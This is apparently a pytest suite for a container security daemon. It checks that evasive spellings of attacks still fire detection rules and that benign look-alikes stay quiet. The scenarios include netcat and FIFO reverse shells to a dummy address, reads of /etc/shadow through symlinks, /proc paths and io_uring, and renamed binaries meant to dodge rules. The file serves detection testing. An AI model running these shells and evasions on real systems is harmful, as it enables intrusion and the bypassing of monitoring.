"""The same attacks, spelt so a literal-minded tracer misses them (issue 12), in real containers.

Each evasion must fire the same default rule as the literal attack (tests/rules_e2e/
test_default_rules_e2e.py), attributed to its container, with the field that says what really
happened (the file the kernel opened, the executable it ran, the syscall it was); each benign
look-alike must stay quiet, and its witness event proves it ran. One in-process daemon with the
shipped rules and the kernel's filters, as in production.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from cauditd.events import Event, ExecEvent, SyscallEvent
from cauditd.rules.prefilter import READ
from tests.conftest import TEST_IMAGE
from tests.rules_e2e.lab import (
    Connected,
    Lab,
    Opened,
    Scenario,
    Witness,
    execd,
    file_op,
    running_lab,
    sh,
)

NOWHERE = "10.99.0.1"  # no network in these containers: the syscall happens, no packet leaves
METADATA = "169.254.169.254"
PRIV = ("--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined")
UNCONFINED = ("--security-opt", "seccomp=unconfined")  # Docker 20.10 predates fchmodat2
SHM_EXEC = ("--tmpfs", "/dev/shm:rw,exec")
SENSITIVE = "Read sensitive file untrusted"
STDIO = "Redirect stdio to network connection"
METADATA_RULE = "Contact cloud metadata service from container"
SETID = "Set setuid or setgid bit"
HISTORY = "Delete or truncate shell history"
HISTORY_SH = "echo ls >> /root/.ash_history; /usr/bin/cauditd_evade "
NOTES_SH = "echo x > /tmp/notes; /usr/bin/cauditd_evade "
FIFO_RELAY = ("mkfifo /tmp/in /tmp/out; {prog} < /tmp/in > /tmp/out &"
              f" /usr/bin/cauditd_evade fifo-relay /tmp/in /tmp/out {NOWHERE} 4445"
              " {how} < /dev/null > /dev/null")
URING_LISTENER = ("mkfifo /tmp/f; /usr/bin/cauditd_evade uring-accept 4448 {how} < /tmp/f"
                  " | {prog} > /tmp/f")
FIXED_ACCEPT = "echo | /usr/bin/cauditd_evade uring-accept-fixed 4449 {dup} | /bin/cat"
READ_HOSTNAME = "/usr/bin/cauditd_evade read /etc/hostname"
FIFO_LISTENER = ("mkfifo /tmp/f; /usr/bin/nc -l -p 4445 < /tmp/f | {prog} > /tmp/f &"
                 " /bin/sleep 0.5; echo exit | /usr/bin/nc -w 2 127.0.0.1 4445")


def asked(ev: Event) -> str:
    return ev.filename or ev.exe if isinstance(ev, ExecEvent) else ""


def exec_asked(predicate_path: str) -> Witness:
    """An exec that asked for this path (or, ending in "*", a path with this prefix)."""
    if predicate_path.endswith("*"):
        return lambda ev: asked(ev).startswith(predicate_path[:-1])
    return lambda ev: asked(ev) == predicate_path


def runtime_mount(ev: Event) -> bool:
    """The container runtime's own mounts while it sets the container up (runc's init stage,
    by its comm: the process has since become the entrypoint)."""
    return isinstance(ev, SyscallEvent) and ev.type == "mount" and ev.comm.startswith("runc:[")


def shell_under_docker_init(ev: Event) -> bool:
    return (isinstance(ev, ExecEvent) and asked(ev) == "/bin/sh" and ev.process is not None
            and ev.process.parent is not None and ev.process.parent.name == "docker-init")


def shell_run_by_the_relay(ev: Event) -> bool:
    return (isinstance(ev, ExecEvent) and asked(ev) == "/bin/sh" and ev.process is not None
            and ev.process.parent is not None and ev.process.parent.name == "cauditd_evade")


def evade(*args: str, options: tuple[str, ...] = ()) -> Scenario:
    """cauditd_evade MODE ARGS from a shell (not as the container's first process, which the
    rules' entrypoint exceptions cover)."""
    return sh("/usr/bin/cauditd_evade " + " ".join(args), options=options)


def padded(variable: str, count: int, size: int) -> Scenario:
    """/bin/true exec'd with `count` variables of `size` bytes in front of `variable`."""
    return sh(f"{variable} /usr/bin/cauditd_evade env-pad {count} {size} /bin/true")


def opened_by(path: str, *args: str) -> Opened:
    return Opened(path, READ, ("/usr/bin/cauditd_evade", *args))


@dataclass(frozen=True)
class Evasion:
    """An evasive spelling that must fire `rule` with output field `field` = `value` (a prefix
    when it ends in "*"), and a benign look-alike that must not, whose `witness` proves it ran."""

    label: str
    rule: str
    evasive: Scenario
    field: str
    value: str
    benign: Scenario
    witness: Witness


SYMLINKED = "ln -s /etc /tmp/e; "
GLIBC = "Glibc tunables in environment"
LOADER = "/lib64/ld-linux-x86-64.so.2"  # runs /opt/dyn/nc, a dynamic program of the image
EVASIONS = [
    # paths that are not the literal string: the rule sees the file the kernel opened
    Evasion("dirfd", SENSITIVE, evade("dirfd", "/etc", "shadow"), "fd.name", "/etc/shadow",
            evade("dirfd", "/etc", "passwd"), opened_by("/etc/passwd", "dirfd", "/etc",
                                                        "passwd")),
    Evasion("symlinked-directory", SENSITIVE, sh(SYMLINKED + "/bin/cat /tmp/e/shadow"),
            "fd.name", "/etc/shadow", sh(SYMLINKED + "/bin/cat /tmp/e/passwd"),
            Opened("/etc/passwd", READ, ("/bin/cat", "/tmp/e/passwd"))),
    Evasion("proc-self-root", SENSITIVE, sh("/bin/cat /proc/self/root/etc/shadow"), "fd.name",
            "/etc/shadow", sh("/bin/cat /proc/self/root/etc/passwd"),
            Opened("/etc/passwd", READ, ("/bin/cat", "/proc/self/root/etc/passwd"))),
    Evasion("proc-pid-cwd", SENSITIVE,
            sh("cd /etc; /bin/sleep 2 & /bin/cat /proc/$!/cwd/shadow; kill $!"), "fd.name",
            "/etc/shadow", sh("cd /etc; /bin/cat /proc/self/cwd/passwd"),
            Opened("/etc/passwd", READ, ("/bin/cat", "/proc/self/cwd/passwd"))),
    Evasion("padded-past-256-bytes", SENSITIVE, evade("pad", "/etc/shadow"), "fd.name",
            "/etc/shadow", evade("pad", "/etc/passwd"), opened_by("/etc/passwd", "pad",
                                                                  "/etc/passwd")),
    Evasion("chdir-around-the-open", SENSITIVE, evade("chdir", "/etc", "shadow"), "fd.name",
            "/etc/shadow", evade("chdir", "/etc", "passwd"),
            opened_by("/etc/passwd", "chdir", "/etc", "passwd")),
    Evasion("fchdir", SENSITIVE, evade("fchdir", "/etc", "shadow"), "fd.name", "/etc/shadow",
            evade("fchdir", "/etc", "passwd"), opened_by("/etc/passwd", "fchdir", "/etc",
                                                         "passwd")),
    # syscalls the probes did not see, or misread
    Evasion("int80-open", SENSITIVE, evade("int80-open", "/etc/shadow"), "fd.name",
            "/etc/shadow", evade("int80-open", "/etc/passwd"),
            opened_by("/etc/passwd", "int80-open", "/etc/passwd")),
    Evasion("io-uring-openat", SENSITIVE, evade("uring-open", "/etc/shadow"), "fd.name",
            "/etc/shadow", evade("uring-open", "/etc/passwd"),
            opened_by("/etc/passwd", "uring-open", "/etc/passwd")),
    # a busybox applet is chosen by argv[0] (or argv[1] after "busybox"), not by the path
    # exec'd or the comm the kernel gives it: /bin/sh run as "nc" is nc; `busybox sh` is sh
    Evasion("busybox-applet-by-argv0", "Netcat remote code execution in container",
            evade("argv0", "nc", "/bin/sh", "-w", "1", "-e", "/bin/sh", NOWHERE, "4445"),
            "proc.cmdline", f"nc -w 1 -e /bin/sh {NOWHERE} 4445",
            evade("argv0", "nc", "/bin/sh", "-w", "1", NOWHERE, "4445"),
            execd("nc", "-w", "1", NOWHERE, "4445")),
    Evasion("busybox-sh-by-name", "Shell spawned by non-shell in container",
            Scenario(("sleep", "30"), execs=(("busybox", "sh", "-c", "true"),)), "proc.name",
            "sh", Scenario(("sleep", "30"), execs=(("busybox", "true"),)),
            execd("busybox", "true")),
    # ring path operations (an io_uring rootkit's spellings): the same records as the syscalls
    Evasion("io-uring-unlinkat", HISTORY, sh(HISTORY_SH + "uring-unlink /root/.ash_history"),
            "fd.name", "/root/.ash_history", sh(NOTES_SH + "uring-unlink /tmp/notes"),
            file_op(("unlinkat",), "/tmp/notes")),
    Evasion("io-uring-unlinkat-relative", HISTORY,
            sh("cd /root; " + HISTORY_SH + "uring-unlink .ash_history"), "fd.name",
            "/root/.ash_history", sh("cd /tmp; " + NOTES_SH + "uring-unlink notes"),
            file_op(("unlinkat",), "/tmp/notes")),
    Evasion("io-uring-renameat", "Write below binary dir",
            sh(NOTES_SH + "uring-rename /tmp/notes /usr/bin/cauditd-dropped"),
            "evt.arg.newpath", "/usr/bin/cauditd-dropped",
            sh(NOTES_SH + "uring-rename /tmp/notes /tmp/notes2"),
            file_op(("renameat2",), "/tmp/notes")),
    Evasion("io-uring-mkdirat", "Directory created below binary dir",
            evade("uring-mkdir", "/usr/bin/.cache"), "fd.name", "/usr/bin/.cache",
            evade("uring-mkdir", "/tmp/.cache"), file_op(("mkdirat",), "/tmp/.cache")),
    Evasion("io-uring-symlinkat", "Create symlink over sensitive files",
            evade("uring-symlink", "/etc/shadow", "/tmp/cauditd-link"), "evt.arg.target",
            "/etc/shadow", evade("uring-symlink", "/etc/passwd", "/tmp/cauditd-link"),
            file_op(("symlinkat",), "/etc/passwd")),
    Evasion("io-uring-linkat", "Create hardlink over sensitive files",
            evade("uring-link", "/etc/shadow", "/tmp/cauditd-hard"), "evt.arg.oldpath",
            "/etc/shadow", evade("uring-link", "/etc/passwd", "/tmp/cauditd-hard"),
            file_op(("linkat",), "/etc/passwd")),
    # ring sends with an address (UDP: a TCP send needs the connect the rule already sees)
    *(Evasion(f"io-uring-{op}", "Connection to mining pool port",
              evade(f"uring-{op}", NOWHERE, "3333"), "fd.dport", "3333",
              evade(f"uring-{op}", NOWHERE, "8080"),
              execd("/usr/bin/cauditd_evade", f"uring-{op}", NOWHERE, "8080"))
      for op in ("send", "sendmsg")),
    Evasion("int80-socketcall-connect", "Connection to mining pool port",
            evade("int80-connect", NOWHERE, "3333"), "fd.dport", "3333",
            evade("int80-connect", NOWHERE, "8080"),
            Connected(NOWHERE, 8080, ("/usr/bin/cauditd_evade", "int80-connect", NOWHERE,
                                      "8080"))),
    Evasion("fcntl-dupfd", STDIO, evade("fcntl-dup", NOWHERE, "4444"), "evt.type", "fcntl",
            evade("fcntl-dup-file", "/etc/hostname"),
            execd("/usr/bin/cauditd_evade", "fcntl-dup-file", "/etc/hostname")),
    Evasion("socket-on-a-freed-fd-0", STDIO, evade("socket-low", NOWHERE, "4444"), "evt.type",
            "socket", evade("pipe-low"), execd("/usr/bin/cauditd_evade", "pipe-low")),
    Evasion("sendmsg", METADATA_RULE, evade("sendmsg", METADATA, "80"), "fd.dip", METADATA,
            evade("sendmsg", NOWHERE, "80"),
            execd("/usr/bin/cauditd_evade", "sendmsg", NOWHERE, "80")),
    Evasion("sendmmsg-second-message", METADATA_RULE, evade("sendmmsg", METADATA, "80"),
            "fd.dip", METADATA, evade("sendmmsg", NOWHERE, "80"),
            execd("/usr/bin/cauditd_evade", "sendmmsg", NOWHERE, "80")),
    Evasion("fchmodat2", SETID, evade("fchmodat2", "/tmp", "4755", options=UNCONFINED),
            "evt.type", "fchmodat2", evade("fchmodat2", "/tmp", "755", options=UNCONFINED),
            file_op(("fchmodat2",), "/tmp")),
    Evasion("open-o-creat-setuid", SETID, evade("creat", "/tmp/s", "4755"), "fd.name",
            "/tmp/s", evade("creat", "/tmp/s", "755"),
            execd("/usr/bin/cauditd_evade", "creat", "/tmp/s", "755")),
    # addresses in another spelling
    Evasion("v4-mapped-ipv6", METADATA_RULE, evade("connect6", METADATA, "80"), "fd.dip",
            METADATA, evade("connect6", NOWHERE, "80"),
            execd("/usr/bin/cauditd_evade", "connect6", NOWHERE, "80")),
    # executables that are not what their name says
    Evasion("exe-path-with-dotdot", "Execution from /dev/shm",
            sh("/bin/cp /bin/busybox /dev/shm/true && /../dev/shm/true", options=SHM_EXEC),
            "proc.exepath", "/dev/shm/true", sh("/../bin/true"), exec_asked("/../bin/true")),
    Evasion("o-tmpfile-exec", "Drop and execute new binary in container",
            evade("tmpfile-exec", "/tmp", "/bin/busybox"), "proc.exepath", "/tmp/#*",
            evade("fd-exec", "/bin/busybox"), exec_asked("/proc/self/fd/*")),
    Evasion("through-the-dynamic-loader", "Netcat remote code execution in container",
            sh(f"{LOADER} /opt/dyn/nc -e /bin/sh {NOWHERE} 4445"), "proc.cmdline", "nc *",
            sh(f"{LOADER} /opt/dyn/nc -w 1 {NOWHERE} 4445"), exec_asked(LOADER)),
    Evasion("binary-named-runc", "Namespace change in container",
            sh("/bin/cp /usr/bin/cauditd_probe /tmp/runc && /tmp/runc unshare", options=PRIV),
            "proc.name", "runc", Scenario(("/bin/true",), PRIV), runtime_mount),
    Evasion("binary-named-tini", "Shell spawned by non-shell in container",
            sh("/bin/cp /usr/bin/cauditd_attack /tmp/tini && /tmp/tini spawn /bin/sh -c true"),
            "proc.pname", "tini", Scenario(("/bin/sh", "-c", "true; true"), ("--init",)),
            shell_under_docker_init),
    # an environment /proc no longer shows: the one the process started with counts
    Evasion("short-lived-process", GLIBC, sh("GLIBC_TUNABLES=glibc.malloc.mxfast=1 /bin/true"),
            "proc.cmdline", "true", sh("GLIBC_FOO=1 /bin/true"), exec_asked("/bin/true")),
    Evasion("environment-written-over", GLIBC,
            sh("GLIBC_TUNABLES=glibc.malloc.mxfast=1 /usr/bin/cauditd_evade env-wipe 2"),
            "proc.cmdline", "cauditd_evade env-wipe 2",
            sh("GLIBC_FOO=1 /usr/bin/cauditd_evade env-wipe 2"),
            execd("/usr/bin/cauditd_evade", "env-wipe", "2")),
    # the variable behind padding, past what the exec's record holds (probes/process.c walks
    # the rest for it): a few KiB, thousands of variables (tail calls), variables over 4 KiB;
    # padding past the walk fires "Environment too large to inspect" (test_default_rules_e2e)
    *(Evasion(f"environment-padded-{n}x{size}", GLIBC, padded("GLIBC_TUNABLES=x=1", n, size),
              "proc.cmdline", "true", padded("GLIBC_FOO=1", n, size), exec_asked("/bin/true"))
      for n, size in ((64, 64), (3000, 8), (2, 20000))),
    # reverse shells that dup no socket
    Evasion("shell-reading-a-fifo", "Reverse shell through pipes",
            sh(f"mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | /usr/bin/nc -w 1 {NOWHERE} 4445"
               " > /tmp/f"), "container.image", TEST_IMAGE,
            sh("mkfifo /tmp/f; (echo id > /tmp/f &); /bin/sh < /tmp/f | /bin/cat"),
            exec_asked("/bin/cat")),
    # a relay whose own stdio is on no pipe: it opens the shell's FIFOs by path
    # ... and a child of it that holds them only by inheritance connects
    # ... or it moves them past fd 63 and execs the program that connects
    *(Evasion(f"relay-opening-the-fifos{suffix}", "Reverse shell through pipes",
              sh(FIFO_RELAY.format(prog="/bin/sh", how=how)), "container.image", TEST_IMAGE,
              sh(FIFO_RELAY.format(prog="/bin/cat", how=how)),
              execd("/usr/bin/cauditd_evade", "fifo-relay", "/tmp/in", "/tmp/out", NOWHERE,
                    "4445", *how.split()))
      for how, suffix in (("", ""), ("fork", "-then-forking"),
                          ("high", "-then-exec-with-them-past-fd-63"))),
    # a relay through a socketpair (socat EXEC): the shell's stdio is a unix socket
    Evasion("relay-through-a-socketpair", "Shell started with a network socket on its stdio",
            evade("socketpair-exec", "listen", "/bin/sh"), "proc.stdin.type", "unix",
            evade("socketpair-exec", "none", "/bin/sh"),
            execd("/usr/bin/cauditd_evade", "socketpair-exec", "none", "/bin/sh")),
    # a relay through pipes it made itself (socat TCP:host:port EXEC:sh,pipes): no FIFO, no
    # exec of its own after its pipe(); it connects before the shell starts, or after
    *(Evasion(f"relay-through-its-own-pipes-connecting-{when}", "Reverse shell through pipes",
              evade("pipe-exec", when, NOWHERE, "4445", "/bin/sh"), "container.image",
              TEST_IMAGE, evade("pipe-exec", "none", NOWHERE, "4445", "/bin/sh"),
              shell_run_by_the_relay)
      for when in ("first", "after")),
    # a bind shell whose shell puts the connection it was handed on fd 3 onto its own stdio
    # (the server's end: no redirect rule) and runs commands (a real fork + exec each); the
    # shell lives on a while, as a session does (its sockets are read from /proc)
    # ... or runs one and exits at once, gone before its /proc could be read
    *(Evasion(f"shell-redirecting-its-own-stdio{suffix}",
              "Shell started with a network socket on its stdio",
              evade("accept-fd3", "4447", f"'exec <&3 >&3 2>&3; {READ_HOSTNAME}; {then}'"),
              "proc.stdin.type", "ipv4",
              evade("accept-fd3", "4447", f"'exec </dev/null; {READ_HOSTNAME}; {then}'"),
              execd("/usr/bin/cauditd_evade", "read", "/etc/hostname"))
      for then, suffix in (("sleep 1", ""), ("exit", "-then-exiting"))),
    # a bind shell that dups no socket: the relay accepts instead of connecting (the client is
    # in the same container, over its own loopback)
    Evasion("bind-shell-through-a-fifo", "Reverse shell through pipes",
            sh(FIFO_LISTENER.format(prog="/bin/sh")), "container.image", TEST_IMAGE,
            sh(FIFO_LISTENER.format(prog="/bin/cat")), exec_asked("/bin/cat")),
    # ... whose relay accepts through an io_uring ring (IORING_OP_ACCEPT), not accept()
    # ... with one multishot request, whose completions the kernel posts without the request
    *(Evasion(f"bind-shell-accepting-through-io-uring{suffix}", "Reverse shell through pipes",
              sh(URING_LISTENER.format(prog="/bin/sh", how=how)), "container.image", TEST_IMAGE,
              sh(URING_LISTENER.format(prog="/bin/cat", how=how)), exec_asked("/bin/cat"))
      for how, suffix in (("once", ""), ("multishot", "-multishot"))),
    # a reverse shell's dup onto stdio after a ring accept into the fixed-file table whose slot
    # number is the shell connection's fd (piped, so that its accepts are followed): the slot
    # must not be taken for an fd, or the connection would pass for a server's end
    Evasion("dup-after-a-ring-accept-into-the-slot-of-its-fd", STDIO,
            sh(FIXED_ACCEPT.format(dup="dup")), "evt.type", "dup2",
            sh(FIXED_ACCEPT.format(dup="none")),
            execd("/usr/bin/cauditd_evade", "uring-accept-fixed", "4449", "none")),
]  # fmt: skip
INT80_SIGPROCMASK = evade("int80-sigprocmask")


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    scenarios = [*(e.evasive for e in EVASIONS), *(e.benign for e in EVASIONS), INT80_SIGPROCMASK]
    with running_lab(tmp_path_factory.mktemp("evasions"), scenarios) as the_lab:
        yield the_lab


def matches(value: object, expected: str) -> bool:
    text = str(value)
    return text.startswith(expected[:-1]) if expected.endswith("*") else text == expected


@pytest.mark.parametrize("evasion", EVASIONS, ids=lambda e: e.label)
def test_the_evasion_fires_the_rule_of_the_literal_attack(lab: Lab, evasion: Evasion) -> None:
    ran = lab.ran(evasion.evasive)
    found = lab.fired(ran, evasion.rule)
    values = [f["output_fields"].get(evasion.field) for f in found]
    assert any(matches(v, evasion.value) for v in values), (values, lab.explain(ran))


@pytest.mark.parametrize("evasion", EVASIONS, ids=lambda e: e.label)
def test_the_benign_look_alike_stays_quiet(lab: Lab, evasion: Evasion) -> None:
    lab.assert_quiet(lab.ran(evasion.benign), evasion.witness, evasion.rule)


def test_an_i386_syscall_is_not_read_as_the_x86_64_one_of_its_number(lab: Lab) -> None:
    """i386 rt_sigprocmask is 175, what x86_64 calls init_module: no forged module load."""
    ran = lab.ran(INT80_SIGPROCMASK)
    assert lab.saw(ran, execd("/usr/bin/cauditd_evade", "int80-sigprocmask")), lab.explain(ran)
    assert lab.findings(ran, rule="Linux kernel module load") == [], lab.explain(ran)
    assert not any(isinstance(ev, SyscallEvent) and ev.type == "init_module"
                   for ev in lab.events(ran))
